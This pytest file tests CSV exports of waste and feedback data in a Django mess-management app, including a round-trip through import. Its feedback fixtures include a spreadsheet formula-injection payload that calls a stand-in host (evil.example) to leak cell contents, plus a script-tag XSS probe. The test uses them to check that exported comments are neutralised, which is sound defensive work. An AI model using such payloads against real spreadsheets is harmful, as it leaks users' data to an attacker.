"""CSV exports of waste and feedback: a date range, one mess for its officials, every mess for
admins, in the columns the import commands read, so a file goes out and back in unchanged (feedback:
the export with names; its pseudonyms and who may take names are in test_feedback_privacy.py)."""

import csv
import io
from decimal import Decimal

import pytest
import time_machine
from django.contrib.auth import get_user_model

from mess.imports.feedback import feedback_import
from mess.imports.waste import waste_import
from mess.models import Feedback, Mess, Role, WasteRecord
from tests.factories import NOW, TODAY, days_ago, feedback, waste
from tests.helpers import create_person

User = get_user_model()

RANGE = {"start": "2026-03-01", "end": "2026-03-10"}


@pytest.fixture(autouse=True)
def now():
    with time_machine.travel(NOW, tick=False):
        yield


def rows(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.fixture
def data(mess1, mess2, ground, first):
    waste(ground, TODAY, "lunch", "4.50", diners=120)  # NOW is 13:00: lunch has started, dinner not
    waste(ground, TODAY, "breakfast", "2.00")
    waste(first, days_ago(9), "lunch", "1000")
    waste(first, days_ago(10), "lunch", "3.00")  # before the range
    waste(mess2.floors.get(name="Second"), TODAY, "lunch", "7.25", diners=80)
    alice = create_person(username="alice", role=Role.STUDENT, mess=mess1)
    bob = create_person(username="bob", role=Role.STUDENT, mess=mess2)
    feedback(mess1, TODAY, "lunch", 1, 'Cold, "stale" rice,\nand a <script>alert(1)</script>', "hygiene", student=alice)
    feedback(mess1, days_ago(3), "dinner", 4, student=alice)
    feedback(mess2, TODAY, "lunch", 5, "Great", student=bob)
    feedback(mess2, days_ago(1), "lunch", 1, '=HYPERLINK("http://evil.example/?"&A1,"x")', student=bob)
    feedback(mess2, days_ago(2), "lunch", 2, "'=already quoted", student=bob)


def test_an_official_exports_their_mess_waste_with_its_worth(client, official, data, mess1):
    Mess.objects.filter(pk=mess1.pk).update(food_cost_per_kg=Decimal("80"))  # ₹ a kilogram; CO2e at the default 2.50
    client.force_login(official)

    response = client.get("/mess/mess1/waste.csv", RANGE)

    assert response["Content-Disposition"] == 'attachment; filename="waste-mess1-2026-03-01-2026-03-10.csv"'
    assert rows(response) == [
        ["date", "mess", "floor", "meal", "total_kg", "diners", "value_inr", "co2e_kg"],
        ["2026-03-01", "mess1", "First", "lunch", "1000.00", "", "80000.00", "2500.00"],
        ["2026-03-10", "mess1", "Ground", "breakfast", "2.00", "", "160.00", "5.00"],
        ["2026-03-10", "mess1", "Ground", "lunch", "4.50", "120", "360.00", "11.25"],
    ]


def test_an_official_exports_their_mess_feedback(client, official, data):
    client.force_login(official)

    response = client.get("/mess/mess1/feedback.csv", RANGE)

    assert rows(response) == [
        ["date", "mess", "meal", "student", "rating", "comment", "category"],
        ["2026-03-07", "mess1", "dinner", "student-0001", "4", "", "food"],
        ["2026-03-10", "mess1", "lunch", "student-0001", "1", 'Cold, "stale" rice,\nand a <script>alert(1)</script>', "hygiene"],
    ]


def test_an_admin_exports_every_mess(client, admin, data):
    client.force_login(admin)

    waste_rows = rows(client.get("/overview/waste.csv", RANGE))
    feedback_rows = rows(client.get("/overview/feedback.csv", {"start": "2026-03-10", "end": "2026-03-10", "names": "1"}))

    assert [r[1] for r in waste_rows[1:]] == ["mess1", "mess1", "mess1", "mess2"]
    assert [(r[1], r[3]) for r in feedback_rows[1:]] == [("mess1", "alice"), ("mess2", "bob")]
    # mess2 sets no food cost: no rupees
    assert rows(client.get("/mess/mess2/waste.csv", RANGE))[1:] == [["2026-03-10", "mess2", "Second", "lunch", "7.25", "80", "", "18.13"]]


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({}, "Start: This field is required."),
        ({"start": "2026-03-10", "end": "2026-03-01"}, "The end date is before the start date."),
        ({"start": "yesterday", "end": "2026-03-01"}, "Start: Enter a valid date."),
        ({"start": "2026-03-01", "end": "2026-02-30"}, "End: Enter a valid date."),
    ],
    ids=["missing", "backwards", "not-a-date", "no-such-date"],
)
def test_it_refuses_a_bad_date_range(client, official, data, params, message):
    client.force_login(official)
    for url in ("/mess/mess1/waste.csv", "/mess/mess1/feedback.csv"):
        response = client.get(url, params)
        assert response.status_code == 400
        assert message in response.text


def test_what_goes_out_comes_back_in_unchanged(client, admin, data):
    client.force_login(admin)
    everything = {"start": "2000-01-01", "end": "2026-03-10"}
    waste_file = b"".join(client.get("/overview/waste.csv", everything).streaming_content)
    feedback_file = b"".join(client.get("/overview/feedback.csv", everything | {"names": "1"}).streaming_content)
    waste_before = sorted(WasteRecord.objects.values_list("floor_id", "date", "meal", "total_kg", "diners"))
    feedback_before = sorted(Feedback.objects.values_list("student_id", "mess_id", "date", "meal", "rating", "comment", "category"))

    # Unchanged data: the files change nothing...
    assert str(waste_import(file=io.BytesIO(waste_file))) == "imported 5 waste records (0 new, 0 updated, 5 unchanged)"
    assert str(feedback_import(file=io.BytesIO(feedback_file))) == "imported 5 feedback entries (0 new, 0 updated, 5 unchanged)"
    # ...and after losing everything, they bring it all back.
    WasteRecord.objects.all().delete()
    Feedback.objects.all().delete()
    assert waste_import(file=io.BytesIO(waste_file)).new == 5
    assert feedback_import(file=io.BytesIO(feedback_file)).new == 5
    assert sorted(WasteRecord.objects.values_list("floor_id", "date", "meal", "total_kg", "diners")) == waste_before
    assert sorted(Feedback.objects.values_list("student_id", "mess_id", "date", "meal", "rating", "comment", "category")) == feedback_before


def test_a_comment_a_spreadsheet_would_run_goes_out_as_text(client, admin, data):
    client.force_login(admin)

    comments = [row[5] for row in rows(client.get("/overview/feedback.csv", {"start": "2026-03-01", "end": "2026-03-10"}))[1:]]

    assert '\'=HYPERLINK("http://evil.example/?"&A1,"x")' in comments
    assert "''=already quoted" in comments
    assert not [c for c in comments if c[:1] in ("=", "+", "-", "@")]
